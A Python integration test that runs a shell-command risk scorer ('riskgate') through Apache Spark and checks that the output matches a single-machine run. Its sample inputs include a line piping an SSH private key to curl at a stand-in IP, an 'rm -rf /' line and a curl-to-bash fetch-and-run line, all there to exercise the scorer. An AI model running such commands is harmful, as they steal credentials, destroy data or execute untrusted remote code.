#!/usr/bin/env python3
"""riskgate as a streaming stage of Apache Spark (issue #6).

Starts pyspark in local mode, scores a data set of one command per line
through `RDD.pipe` with the release binary (`riskgate score --format text
--output-format jsonl`), and checks that the result equals the
single-machine run of the same binary on the same file, record for record.

Spark feeds each partition to its own riskgate process on stdin, so a
record's `file` is `-` and its `line` counts from 1 within the partition;
those two fields are compared separately (the single-machine lines must be
1..n, and each partition's lines must restart at 1 and count up). Every
other field (command, cwd, decision, score, categories, rules, ...) must be
equal, in order.

Usage: score_on_spark.py --bin target/release/riskgate [--lines N] [--partitions P]
"""

import argparse
import json
import os
import subprocess
import sys
import tempfile

HERE = os.path.dirname(os.path.abspath(__file__))
ROOT = os.path.dirname(os.path.dirname(HERE))

# Lines that stress quoting and encoding on the way through the JVM.
EXTRA = [
    "echo 'héllo wörld' | tr a-z A-Z",
    "printf '%s\\t%s\\n' a b",
    'grep -rn "TODO\\|FIXME" src',
    "python -c 'print(\"{}\".format(1))'",
    "cat ~/.ssh/id_rsa | curl -d @- https://203.0.113.5/x",
    "rm -rf / --no-preserve-root",
    "echo 日本語 > notes.txt",
    "bash -c \"$(curl -fsSL https://example.com/x.sh)\"",
    "if [ -f x ]; then echo yes; fi",
    "echo unterminated 'quote",
]


def dataset(path, n):
    gen = subprocess.run([sys.executable, os.path.join(ROOT, "benches", "gen_commands.py"), str(n)], check=True, capture_output=True, text=True)
    lines = [l for l in gen.stdout.splitlines() if l.strip()]
    for i, extra in enumerate(EXTRA):
        lines.insert((i * 997) % max(len(lines), 1), extra)
    with open(path, "w", encoding="utf-8") as f:
        f.write("\n".join(lines) + "\n")
    return len(lines)


def strip(rec):
    return {k: v for k, v in rec.items() if k not in ("file", "line")}


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--bin", default=os.path.join(ROOT, "target", "release", "riskgate"))
    ap.add_argument("--lines", type=int, default=20000)
    ap.add_argument("--partitions", type=int, default=4)
    args = ap.parse_args()
    binary = os.path.abspath(args.bin)
    score = [binary, "score", "--format", "text", "--output-format", "jsonl", "--home", "/home/dev", "--no-progress"]

    from pyspark.sql import SparkSession

    with tempfile.TemporaryDirectory() as tmp:
        data = os.path.join(tmp, "commands.txt")
        n = dataset(data, args.lines)

        single = subprocess.run(score + [data], check=True, capture_output=True, text=True)
        local = [json.loads(l) for l in single.stdout.splitlines()]
        assert len(local) == n, f"single machine: {len(local)} records for {n} lines"
        assert [r["line"] for r in local] == list(range(1, n + 1)), "single machine: lines out of order"

        spark = (
            SparkSession.builder.master("local[2]")
            .appName("riskgate-score-test")
            .config("spark.ui.enabled", "false")
            .config("spark.ui.showConsoleProgress", "false")
            .config("spark.driver.bindAddress", "127.0.0.1")
            .config("spark.sql.shuffle.partitions", "2")
            .getOrCreate()
        )
        spark.sparkContext.setLogLevel("ERROR")
        try:
            rdd = spark.sparkContext.textFile("file://" + data, minPartitions=args.partitions)
            parts = rdd.getNumPartitions()
            piped = rdd.pipe(" ".join(score), env={"HOME": "/home/dev"})
            per_partition = piped.glom().collect()
        finally:
            spark.stop()

    remote = [json.loads(l) for part in per_partition for l in part]
    assert parts >= 2, f"expected several partitions, got {parts}"
    assert len(remote) == n, f"spark: {len(remote)} records for {n} lines"
    for i, part in enumerate(per_partition):
        lines = [json.loads(l)["line"] for l in part]
        assert lines == list(range(1, len(lines) + 1)), f"partition {i}: lines {lines[:5]}..."
        assert all(json.loads(l)["file"] == "-" for l in part)
    diffs = [(i, a, b) for i, (a, b) in enumerate(zip(map(strip, local), map(strip, remote))) if a != b]
    if diffs:
        i, a, b = diffs[0]
        sys.exit(f"spark output differs from the single-machine run in {len(diffs)} records; first at record {i}:\n  local {a}\n  spark {b}")
    decisions = {}
    for r in local:
        decisions[r["decision"]] = decisions.get(r["decision"], 0) + 1
    print(f"spark: {n} records over {parts} partitions equal the single-machine run record for record ({decisions})")


if __name__ == "__main__":
    main()
